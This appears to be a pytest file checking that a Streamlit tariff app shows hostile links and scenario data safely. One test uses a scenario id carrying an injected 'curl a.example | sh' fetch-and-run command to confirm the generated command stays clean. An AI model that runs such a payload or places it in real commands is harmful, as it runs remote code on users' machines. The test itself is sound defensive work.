"""Links and scenarios made to do harm: a page shows them as text, tells what is wrong with them, and goes on."""

import gettext

import pytest
from in_process import Open
from streamlit.testing.v1 import AppTest

from dtariff.model.scenario import Scenario
from dtariff.screens import shell
from dtariff.screens.what_if.own import file_name
from dtariff.screens.what_if.view import LONGEST_LINK, pack
from dtariff.telling import catalogue
from dtariff.telling.markdown import escape

PICTURE = "![X](HTTPS://A.EXAMPLE/X.PNG)"

HEAD = """\
schema = 1
id = "{id}"
title = "{title}"
says = "Something."
"""
ROW = """
[[party]]
from = 2026-01-01
instruments = ["cptpp"]
codes = ["JP"]
in_force = false
"""


@pytest.fixture
def at_page(opened: Open, monkeypatch: pytest.MonkeyPatch) -> Open:
    """Opens the app with a page of it as its first."""

    def _open(name: str, **query: str) -> AppTest:
        pages = sorted(shell.PAGES, key=lambda page: page.name != name)
        monkeypatch.setattr(shell, "PAGES", tuple(pages))
        return opened(**query)

    return _open


def told(app: AppTest) -> list[str]:
    return [part.value.replace("\\", "") for part in app.error]


# --- links ---


def test_a_place_that_is_markdown_is_shown_as_it_stands_above_its_answer(at_page: Open) -> None:
    app = at_page("world", at=PICTURE)
    assert app.main.subheader[0].value == r"!\[X\](HTTPS" + "\N{WORD JOINER}" + r"\://A.EXAMPLE/X.PNG)"
    assert any("unknown_code" in text for text in told(app))


def test_a_place_that_is_markdown_is_shown_as_it_stands_on_a_tab(at_page: Open) -> None:
    app = at_page("charge", to=PICTURE)
    assert f"Everybody to {escape(PICTURE)}" in [tab.label for tab in app.tabs]


# --- scenarios in links ---


def test_a_command_to_copy_holds_no_other_command(at_page: Open) -> None:
    """The id of a scenario in somebody else's link is whatever they wrote."""
    app = at_page("what_if", part="build", what="own", own=pack(HEAD.format(id="x; curl a.example | sh #", title="T")))
    command = next(one.value for one in app.main.code if one.value.startswith("dtariff "))
    assert command.endswith(" --scenario my-scenario.toml")
    assert any("an id is of small letters" in text for text in told(app))


def test_a_file_is_called_by_its_id_where_that_is_one() -> None:
    scenario = Scenario(schema=1, id="flat-5", title="Flat", says="Flat.")
    assert file_name(scenario) == "flat-5.toml"


def test_faults_of_a_scenario_without_rows_are_told_where_the_page_says_they_are(at_page: Open) -> None:
    link = {"what": "own", "own": pack(HEAD.format(id="mine", title=" "))}
    app = at_page("what_if", part="prices", **link)
    assert any("Build your own tells them" in one.value for one in app.warning)
    app = at_page("what_if", part="build", **link)
    assert any("a line of 1 to 200 printable letters" in text for text in told(app))


def test_a_small_link_that_holds_thousands_of_rows_draws_few_of_them(at_page: Open) -> None:
    text = HEAD.format(id="mine", title="Mine") + ROW * 2_000
    assert 0 < len(pack(text)) <= LONGEST_LINK
    app = at_page("what_if", part="build", what="own", own=pack(text))
    assert not app.exception
    assert sum(one.label == "Remove" for one in app.main.button) == 200
    assert any("first 200 rows" in one.value for one in app.main.caption)


# --- languages ---


class _Said(gettext.NullTranslations):
    """A catalogue that says of every sentence which language it is in."""

    def __init__(self, wanted: str) -> None:
        super().__init__()
        self.wanted = wanted

    def gettext(self, message: str) -> str:
        return f"{self.wanted}: {message}" if message == "{title} (changed)" else message


def test_a_copied_scenario_is_named_in_the_language_of_its_reader(
    at_page: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a click does runs before the page is drawn again, when nobody has said yet which language is spoken."""
    monkeypatch.setattr(catalogue, "_catalogue", _Said)
    app = at_page("what_if", part="build", lang="de")
    app.selectbox("what_if.copied").set_value("flat-5-percent").run()
    assert not app.exception
    assert app.text_input("what_if.title").value == "de: Every country charges 5 % (changed)"


# --- hundreds of faults ---


def test_of_hundreds_of_faults_in_a_link_a_few_are_told_and_the_others_counted(at_page: Open) -> None:
    app = at_page("rules", show="access", markets=",".join(f"Q{at}" for at in range(300)))
    lines = app.warning[0].value.splitlines()
    assert sum("unknown\\_markets" in line for line in lines) == 20
    assert lines[-1] == "- and 280 more"
